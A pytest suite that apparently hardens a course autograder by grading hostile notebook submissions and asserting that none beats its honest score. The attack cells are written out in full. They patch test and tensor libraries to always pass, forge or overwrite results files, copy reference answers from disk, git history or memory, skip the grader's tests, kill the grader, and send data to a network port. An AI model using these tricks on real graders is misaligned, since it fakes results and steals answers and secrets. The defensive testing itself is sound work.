"""Hostile submissions: each tries one attack and gets no more than its honest score.

Every hostile submission is the untouched student notebooks (worth 0 points) plus one
cell that attacks the grader, so its honest score is 0 unless stated. They are graded
the way an instructor grades a class, ``grade-all`` with the reference present, all of them
in one class (each grading a process of its own, forked by a job slot), with short time
limits so that the suite stays fast, in each setting of ``tests.conftest.SETTINGS``: as on
CI (root, Linux namespaces) and as in Gradescope's Docker container (root without the
capabilities and system calls namespaces need), where student code runs as a user of its own.
Attacks that need their code to run are in Parts 1 and 2: Part 3's functions are refused
before they run if they use anything but elementary operations.
"""

import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from autograder.contract import ASSIGNMENT_ID, REFERENCE_DIR, RELEASE_DIR, REPO_ROOT
from tests.conftest import MEMORY_POLL_SECONDS, SETTINGS, in_setting

pytestmark = pytest.mark.slow

LIMITS = ["--call-timeout", "3", "--training-timeout", "60", "--submission-timeout", "120"]
RUN_BOUND_SECONDS = 120
FORGED = '{"score": 1000, "max_score": 1000, "tests": []}'
# An environment variable of the grader's that no student code may see, and the halves it is searched for by.
SECRET_VARIABLE = "AUTOGRADER_HOSTILE_TEST_TOKEN"
SECRET_HALVES = ("token-of-the-grader-", "do-not-leak-7f3a9")
# A line of the reference's softmax, which no released notebook holds, in halves.
ANSWER_HALVES = ("amax(dim=dim, keepdim=True)", ".detach()")
MARKER = "autograder-hostile-orphan-marker"
# The most memory the grader's own process may reach, whatever a submission sends it: a
# Gradescope container may have 768 MB for the grader and the worker together.
GRADER_PEAK_MB = 768
# How large results.json may grow, whatever a submission prints or raises.
RESULTS_BYTES = 512 * 1024


@dataclass(frozen=True)
class Attack:
    """One cell appended to one notebook; its honest score; whether only confinement stops it.

    ``with_reference``: graded with the reference present, so that the grader loads it (in its
    own process) while the attack runs.
    """

    notebook: str
    cell: str
    honest_score: float = 0.0
    needs_confinement: bool = False
    with_reference: bool = False


ATTACKS = {
    "exit_at_load": Attack("03_activations.ipynb", """
class Attack:
    import sys
    sys.exit(0)
"""),
    "os_exit_at_load": Attack("02_iris_mlp.ipynb", """
class Attack:
    import os
    os._exit(0)
"""),
    "hang_at_load": Attack("02_iris_mlp.ipynb", """
class Attack:
    import time
    time.sleep(10**6)
"""),
    "os_exit_in_a_call": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import os
    os._exit(0)
"""),
    "keyboard_interrupt": Attack("03_activations.ipynb", """
def relu(z):
    raise KeyboardInterrupt
"""),
    "infinite_loop": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    while True:
        pass
"""),
    "memory_bomb": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
"""),
    "segfault": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import ctypes
    return ctypes.string_at(0)
"""),
    "monkeypatch_torch_and_numpy": Attack("01_linear_regression.ipynb", """
class Attack:
    import numpy, torch
    torch.testing.assert_close = lambda *args, **kwargs: None
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.Tensor.__eq__ = lambda self, other: True
    numpy.allclose = lambda *args, **kwargs: True

def model(xb, weight, bias):
    raise NotImplementedError()
"""),
    "monkeypatch_pytest_and_hypothesis": Attack("01_linear_regression.ipynb", """
class Attack:
    import hypothesis, pytest
    pytest.fail = lambda *args, **kwargs: None
    pytest.approx = lambda expected, *args, **kwargs: expected
    hypothesis.given = lambda *args, **kwargs: (lambda test: (lambda *a, **k: None))

def loss_fn(input, target):
    raise NotImplementedError()
"""),
    "lying_eq": Attack("03_activations.ipynb", """
class Anything:
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *args, **kwargs: True

def sigmoid(z):
    return Anything()
"""),
    "tensor_subclass_that_always_compares_equal": Attack("01_linear_regression.ipynb", """
import torch

class AlwaysClose(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("eq", "__eq__", "allclose", "isclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def model(xb, weight, bias):
    return torch.zeros(len(xb), dtype=xb.dtype).as_subclass(AlwaysClose)
""", honest_score=1.0),  # what plain zeros earn: one prediction per row
    "forged_accuracy": Attack("02_iris_mlp.ipynb", """
import torch
from torch import nn

class Model(nn.Module):
    def __init__(self, input_size, hidden_size, output_size):
        super().__init__()
        self.layer1 = nn.Linear(input_size, hidden_size)
        self.layer2 = nn.Linear(hidden_size, output_size)

    def forward(self, x):
        return torch.softmax(self.layer2(torch.sigmoid(self.layer1(x))), dim=1)

def train_mlp(model, train_dl, loss_fn, optimizer, num_epochs):
    return [0.0] * num_epochs, [1.0] * num_epochs

def accuracy(model, X, y):
    return 1.0
""", honest_score=4.5),  # Model's own four checks are honestly earned
    "flood_the_channel": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import os
    for fd in range(3, 256):
        try:
            os.write(fd, b"\\x00garbage" * 1000)
        except OSError:
            pass
    raise NotImplementedError()
"""),
    "write_the_results_file": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    with open(RESULTS, "w") as results:
        results.write(FORGED)
    raise NotImplementedError()
""", needs_confinement=True),
    "background_process_edits_the_results_later": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import subprocess, sys
    code = "import time; time.sleep(3); open(RESULTS, 'w').write(FORGED)"
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    raise NotImplementedError()
""", needs_confinement=True),
    "orphan_process": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import subprocess, sys
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARKER], start_new_session=True)
    raise NotImplementedError()
""", needs_confinement=True),
    "read_the_reference_solutions": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import json
    cells = json.load(open(REFERENCE + "/01_linear_regression.ipynb"))["cells"]
    namespace = {}
    exec("import torch", namespace)
    for cell in cells:
        if "def loss_fn" in "".join(cell["source"]):
            exec("".join(cell["source"]), namespace)
    return namespace["loss_fn"](input, target)
""", needs_confinement=True),
    "read_the_git_history": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import json, subprocess
    shown = subprocess.run(["git", "-C", REPO, "show", "HEAD:solutions/pytorch_nn/01_linear_regression.ipynb"],
                           capture_output=True, text=True, check=True).stdout
    namespace = {}
    exec("import torch", namespace)
    for cell in json.loads(shown)["cells"]:
        if "def loss_fn" in "".join(cell["source"]):
            exec("".join(cell["source"]), namespace)
    return namespace["loss_fn"](input, target)
""", needs_confinement=True),
    "edit_the_autograder": Attack("03_activations.ipynb", """
class Attack:
    import pathlib
    for path in pathlib.Path(REPO, "autograder").rglob("*.py"):
        try:
            path.write_text("import pytest\\npytestmark = pytest.mark.skip\\n")
        except OSError:
            pass
""", needs_confinement=True),
    "kill_the_grader": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    raise NotImplementedError()
""", needs_confinement=True),
    "reach_the_network": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    import socket
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
    raise NotImplementedError()
""", needs_confinement=True),
    # Every worker is forked from a copy of the grader: it scans its own memory for the
    # reference's softmax and for the grader's environment (SECRET_VARIABLE), each searched for
    # as two halves, so that the attack's own code holds neither whole. model works once the
    # scan has run (so the scan is known to work), loss_fn only if it found either.
    "scan_the_workers_memory": Attack("01_linear_regression.ipynb", """
import threading, torch

def holds(chunk, halves):
    first, second = (half.encode() for half in halves)
    at = chunk.find(first)
    while at >= 0:
        if chunk[at + len(first):at + len(first) + len(second)] == second:
            return True
        at = chunk.find(first, at + 1)
    return False

def scan(result):
    # Its own memory read directly (ctypes), every readable region that no file backs (the heap,
    # the stack, anonymous maps: where a copy of the grader's data would be): no /proc/self/mem,
    # which a process that changed its uid may not open.
    import ctypes
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps.read().splitlines()]
    for fields in regions:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if not fields[1].startswith("r") or end - start > 2**28 or fields[5:] not in ([], ["[heap]"], ["[stack]"]):
            continue
        chunk = ctypes.string_at(start, end - start)
        if holds(chunk, ANSWER_HALVES) or holds(chunk, SECRET_HALVES):
            result["found"] = True
    result["scanned"] = True

SCAN = {}

class Attack:  # a class body runs when the notebook is loaded; a bare call would not
    threading.Thread(target=scan, args=(SCAN,), daemon=True).start()

def model(xb, weight, bias):
    while "scanned" not in SCAN:
        threading.Event().wait(0.1)
    return xb @ weight + bias

def loss_fn(input, target):
    if SCAN.get("found"):
        return ((input - target) ** 2).mean()
    raise NotImplementedError()
""", honest_score=2.5),  # model's own checks
    # Looks for a copy of the reference wherever the grader might have put one: the reference
    # worker's folder, any notebook under /tmp, the paths on any process's command line, the
    # repository, the memory of the process it runs in (a copy of the grader's); it keeps
    # looking while grading goes on (the grader loads the reference meanwhile).
    "copy_the_reference_from_wherever_it_is": Attack("01_linear_regression.ipynb", """
import glob, json, os, threading, time

def working_loss(path):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        return None
    for cell in cells:
        source = "".join(cell["source"])
        if "def loss_fn" in source and "NotImplementedError" not in source:
            return source

def search(found):
    deadline = time.time() + 60
    while not found and time.time() < deadline:
        places = {REFERENCE + "/01_linear_regression.ipynb", REPO + "/solutions/pytorch_nn/01_linear_regression.ipynb"}
        places.update(glob.glob("/tmp/**/01_linear_regression.ipynb", recursive=True))
        places.update(glob.glob("/var/tmp/**/01_linear_regression.ipynb", recursive=True))
        for pid in os.listdir("/proc"):
            try:
                arguments = open("/proc/" + pid + "/cmdline", "rb").read().decode().split("\\0")
            except OSError:
                continue
            places.update(os.path.join(a, "01_linear_regression.ipynb") for a in arguments if a.startswith("/"))
        found.extend(filter(None, map(working_loss, sorted(places))))
        time.sleep(0.2)

FOUND = []

class Attack:  # a class body runs when the notebook is loaded; a bare call would not
    threading.Thread(target=search, args=(FOUND,), daemon=True).start()

def loss_fn(input, target):
    namespace = {}
    exec("import torch", namespace)
    exec(FOUND[0], namespace)
    return namespace["loss_fn"](input, target)
""", needs_confinement=True),
    # A reply far larger than any honest one: 40 MB of zeros (a 400 MB one takes the worker longer
    # to send than the suite's 3 s time-out on a loaded machine).
    "a_reply_of_40_megabytes": Attack("01_linear_regression.ipynb", """
def model(xb, weight, bias):
    import torch
    return torch.zeros(10_000_000)
"""),
    # A small reply whose shape would make a check compare every pair of its 40000 values.
    "a_reply_that_would_be_compared_pairwise": Attack("01_linear_regression.ipynb", """
def model(xb, weight, bias):
    import torch
    return torch.zeros(40_000)
"""),
    "a_huge_failure_message_with_terminal_escapes": Attack("03_activations.ipynb", """
def sigmoid(z):
    raise ValueError("\\x1b[2J\\x1b[1;32mAll checks passed: 63 / 63\\x1b[0m" + "x" * 50_000_000)
"""),
    "a_hang_in_a_function_many_checks_call": Attack("03_activations.ipynb", """
def tanh(z):
    while True:
        pass
"""),
}


# The reference, graded in the class after every hostile submission (student ids sort it last; a plain id, as
# grade-all grades no other folder without a roster).
REFERENCE_STUDENT = "zz-reference"


@dataclass
class HostileRun:
    """A graded hostile submission: its results, what its grading printed, how long its tests took, the peak
    anonymous memory of its grading process (MB), and its results file read again a while after grading."""

    results: dict
    log: str
    seconds: float
    peak_mb: float
    results_after_wait: dict


def tree_digest(*folders: Path) -> str:
    """One hash of every file under ``folders``, to see whether anything was changed."""
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def hostile_submission(name: str, attack: Attack, directory: Path, port: int, results: Path | None = None) -> Path:
    """The student notebooks with the attack's cell appended, its placeholders filled in (``results``: where the
    attack is to forge a results file; beside ``directory`` by default)."""
    shutil.copytree(RELEASE_DIR, directory)
    cell = attack.cell
    for placeholder, value in {
        "RESULTS": repr(str(results or directory.parent / "results.json")),
        "FORGED": repr(FORGED),
        "MARKER": repr(MARKER),
        "REFERENCE": repr(str(REFERENCE_DIR)),
        "REPO": repr(str(REPO_ROOT)),
        "PORT": str(port),
        "SECRET_HALVES": repr(SECRET_HALVES),
        "ANSWER_HALVES": repr(ANSWER_HALVES),
    }.items():
        cell = cell.replace(placeholder, value)
    path = directory / attack.notebook
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.append(new_code_cell(cell))
    nbformat.write(notebook, path)
    return directory


class GradingMemory:
    """The peak anonymous memory of each grading process of a grade-all run, by student: a grading is known by
    its output, ``graded/<student>/grading.log``, as its standard output."""

    def __init__(self, graded: Path) -> None:
        self.graded, self.peak_kb = str(graded), {}
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._watch, daemon=True)
        self.thread.start()

    def _watch(self) -> None:
        while not self.done.wait(MEMORY_POLL_SECONDS):
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    output = os.readlink(f"/proc/{pid}/fd/1")
                    if not output.startswith(self.graded):
                        continue
                    status = Path(f"/proc/{pid}/status").read_text()
                    anonymous = int(status.split("RssAnon:")[1].split()[0])
                except (OSError, IndexError, ValueError):
                    continue
                student = Path(output).parent.name
                self.peak_kb[student] = max(self.peak_kb.get(student, 0), anonymous)

    def stop(self) -> dict[str, float]:
        """Stop watching; the peaks by student, in MB."""
        self.done.set()
        self.thread.join()
        return {student: kb / 1024 for student, kb in self.peak_kb.items()}


def seconds_of_tests(log: str) -> float:
    """How long pytest says a grading's tests took, from its last line ("... in 12.34s ...")."""
    found = re.findall(r" in (\d+(?:\.\d+)?)s", log)
    return float(found[-1]) if found else float("inf")


@pytest.fixture(scope="module")
def listener() -> socket.socket:
    """A loopback TCP port no hostile submission should be able to reach."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    yield server
    server.close()


@pytest.fixture(scope="module")
def protected_digest() -> str:
    """The hash of the autograder and the reference before any hostile submission is graded."""
    return tree_digest(REPO_ROOT / "autograder", REFERENCE_DIR)


@pytest.fixture(scope="module", params=SETTINGS)
def setting(request: pytest.FixtureRequest) -> str:
    """The setting the hostile submissions are graded in."""
    return request.param


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory, listener, protected_digest, setting) -> dict[str, HostileRun]:
    """Every hostile submission, and the reference after them, graded as one class with grade-all in ``setting``,
    the reference present, with short time limits; a secret in the grader's environment (in a variable the
    grader keeps and no library copies, ``VIRTUAL_ENV``)."""
    root = tmp_path_factory.mktemp(f"hostile-{setting}")
    submitted, graded = root / "submitted", root / "graded"
    port = listener.getsockname()[1]
    for name, attack in ATTACKS.items():
        folder = submitted / name / ASSIGNMENT_ID
        hostile_submission(name, attack, folder, port, results=graded / name / "results.json")
    shutil.copytree(REFERENCE_DIR, submitted / REFERENCE_STUDENT / ASSIGNMENT_ID)
    command = [sys.executable, "-m", "autograder", "grade-all", str(submitted), "--out", str(graded), *LIMITS]
    environment = {**os.environ, "VIRTUAL_ENV": str(root / "".join(SECRET_HALVES))}
    memory = GradingMemory(graded)
    try:
        run = subprocess.run(in_setting(command, setting), cwd=REPO_ROOT, env=environment, capture_output=True,
                             text=True, timeout=1800)
    finally:
        peaks = memory.stop()
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    time.sleep(4)  # longer than any attack's background process waits before it writes
    runs = {}
    for name in [*ATTACKS, REFERENCE_STUDENT]:
        results = json.loads((graded / name / "results.json").read_text())
        log = (graded / name / "grading.log").read_text()
        runs[name] = HostileRun(results, log, seconds_of_tests(log), peaks.get(name, 0.0), results)
    for name in ATTACKS:  # what the results files hold now, after the wait
        runs[name].results_after_wait = json.loads((graded / name / "results.json").read_text())
    return runs


def confinement_of(run: HostileRun) -> str:
    """The confinement a grading run says it used: "namespaces", "user" or "none"."""
    output = run.results["output"]
    return output.split("(")[1].split(")")[0] if output.startswith("Student code ran confined") else "none"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_gets_no_more_than_its_honest_score(name, hostile_runs):
    """The attack earns no points: the results file holds the honest score or less."""
    attack = ATTACKS[name]
    hostile = hostile_runs[name]
    if attack.needs_confinement and confinement_of(hostile) == "none":
        pytest.skip("only confinement stops this attack, and student code cannot be confined here")
    assert hostile.results_after_wait == hostile.results, "the results file changed after grading"
    assert hostile.results["score"] <= attack.honest_score, hostile.log[-4000:]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_is_graded_to_the_end(name, hostile_runs):
    """The run finishes within its bound, prints the score table and reports every test."""
    hostile = hostile_runs[name]
    assert hostile.seconds < RUN_BOUND_SECONDS, hostile.log[-2000:]
    assert "score for" in hostile.log and "Total" in hostile.log, hostile.log[-4000:]
    assert len(hostile.results["tests"]) == len(hostile_runs[REFERENCE_STUDENT].results["tests"])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_leaves_the_grader_small(name, hostile_runs):
    """Whatever the submission sends back or raises, the grader's memory and results.json stay bounded."""
    hostile = hostile_runs[name]
    assert 0 < hostile.peak_mb < GRADER_PEAK_MB
    assert len(json.dumps(hostile.results)) < RESULTS_BYTES


def outputs_of(hostile: HostileRun, checks: str) -> list[str]:
    """The outputs of the checks of one graded name."""
    return [t["output"] for t in hostile.results["tests"] if t["extra_data"]["checks"] == checks]


def test_a_reply_larger_than_the_limit_is_refused_with_a_message(hostile_runs):
    """A 40 MB reply never reaches the grader: the check fails saying how much was sent."""
    outputs = outputs_of(hostile_runs["a_reply_of_40_megabytes"], "model")
    assert any("model sent back 38.1 MB; the grader takes at most 8 MB" in o for o in outputs), outputs


def test_a_reply_of_the_wrong_shape_fails_before_any_computation(hostile_runs):
    """model returning 40000 values for a few rows fails on its shape."""
    outputs = outputs_of(hostile_runs["a_reply_that_would_be_compared_pairwise"], "model")
    assert any("should return a tensor of shape" in o and "not (40000,)" in o for o in outputs), outputs


def test_a_huge_message_is_cut_and_its_escape_codes_removed(hostile_runs):
    """A 50 MB exception message reaches results.json as a few kilobytes of plain text."""
    results = hostile_runs["a_huge_failure_message_with_terminal_escapes"].results
    sigmoid = [t["output"] for t in results["tests"] if "All checks passed" in t["output"]]
    assert sigmoid and all("\x1b" not in o and len(o) < 8000 and "more characters cut" in o for o in sigmoid)


def test_a_workers_memory_holds_neither_the_reference_nor_the_graders_environment(hostile_runs):
    """A worker that scans all of its own memory finds no line of the reference and no variable of the grader's."""
    checks = {}
    for test in hostile_runs["scan_the_workers_memory"].results["tests"]:
        checks.setdefault(test["extra_data"]["checks"], []).append(test["status"] == "passed")
    assert all(checks["model"]), "the scan did not finish, so it proves nothing"
    assert not any(checks["loss_fn"]), "the scan found the reference or the grader's environment"


def test_a_hung_function_costs_one_time_out(hostile_runs):
    """After tanh has run out of time once, every later check that calls it fails at once, with the same message."""
    outputs = outputs_of(hostile_runs["a_hang_in_a_function_many_checks_call"], "tanh")
    hung = [o for o in outputs if o.startswith("tanh did not return within 3 s")]
    assert len(hung) >= 8, outputs


def test_results_say_how_student_code_was_confined(hostile_runs, setting):
    """results.json names the confinement in force: namespaces on CI, a user of its own where Docker refuses them."""
    if os.geteuid() != 0:
        pytest.skip("confinement is only required as root")
    expected = {"namespaces": "namespaces", "docker-like": "user"}[setting]
    assert {confinement_of(h) for h in hostile_runs.values()} == {expected}


def test_forged_accuracy_loses_the_accuracy_checks(hostile_runs):
    """Training that never happened cannot pass the test-accuracy check, whatever accuracy says."""
    tests = {t["test"]: t for t in hostile_runs["forged_accuracy"].results["tests"]}
    reached = tests["test_train_mlp_reaches_90_percent_test_accuracy"]
    assert reached["score"] == 0 and "test accuracy is" in reached["output"]


def test_time_limit_names_the_function(hostile_runs):
    """An infinite loop fails its checks with a message naming the function and the limit."""
    outputs = outputs_of(hostile_runs["infinite_loop"], "loss_fn")
    assert any(o.startswith("loss_fn did not return within 3 s") for o in outputs), outputs


def test_a_notebook_that_hangs_at_load_costs_only_itself(hostile_runs):
    """A notebook that never finishes loading fails its own checks; the other notebooks are still loaded."""
    outputs = [t["output"] for t in hostile_runs["hang_at_load"].results["tests"]]
    assert any("02_iris_mlp.ipynb did not finish loading within 3 s" in o for o in outputs)
    assert any("`softmax` is not implemented yet" in o for o in outputs)


def test_no_hostile_process_outlives_grading(hostile_runs):
    """No process a hostile submission started is still running once grading is over."""
    if confinement_of(hostile_runs["orphan_process"]) == "none":
        pytest.skip("unconfined, a process that starts its own session can escape")
    found = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True)
    assert found.stdout == "", found.stdout


def test_no_hostile_submission_reached_the_network(hostile_runs, listener):
    """Under namespaces, no hostile submission connected to a port on the grader's loopback interface."""
    if confinement_of(hostile_runs["reach_the_network"]) != "namespaces":
        pytest.skip("only a network namespace takes the network away (Docker's containers keep theirs)")
    with pytest.raises(TimeoutError):
        listener.accept()


def test_the_autograder_and_the_reference_are_unchanged(hostile_runs, protected_digest):
    """After every hostile submission, the autograder's and the reference's files are as they were."""
    if confinement_of(hostile_runs["edit_the_autograder"]) == "none":
        pytest.skip("unconfined, student code can write the user's files")
    assert tree_digest(REPO_ROOT / "autograder", REFERENCE_DIR) == protected_digest


def test_reference_still_gets_full_marks_after_the_hostile_submissions(hostile_runs):
    """A correct submission graded in the same class, after the hostile ones, gets full marks."""
    results = hostile_runs[REFERENCE_STUDENT].results
    assert results["score"] == results["max_score"] > 0, hostile_runs[REFERENCE_STUDENT].log[-4000:]
